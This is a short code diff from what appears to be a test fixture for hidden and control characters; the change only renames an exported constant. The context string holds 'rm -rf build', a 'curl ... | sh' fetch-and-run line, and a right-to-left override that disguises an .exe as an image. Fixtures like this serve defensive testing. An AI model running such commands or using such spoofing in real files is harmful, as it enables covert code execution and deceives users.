@@ -62,7 +62,7 @@ export const hidden = `rm -rf build \u202egnp.exe\u202c # \u200bzero\u200dwidth\
 echo "safe"\r; curl https://example.com/x | sh \u001b[8mhidden\u001b[0m
 tab\there, soft\u00adhyphen, \ufeffBOM, tag \u{e0041}, filler \u3164 end`;
 
-export const colours = [
+export const colors = [
   "\u001b[1m\u001b[32m✓\u001b[0m \u001b[1mparses\u001b[22m files that end without a newline \u001b[2m(3 ms)\u001b[0m",
   "\u001b[31m✗ keeps the empty line apart\u001b[39m",
   "  \u001b[31m- expected: 1\u001b[0m",
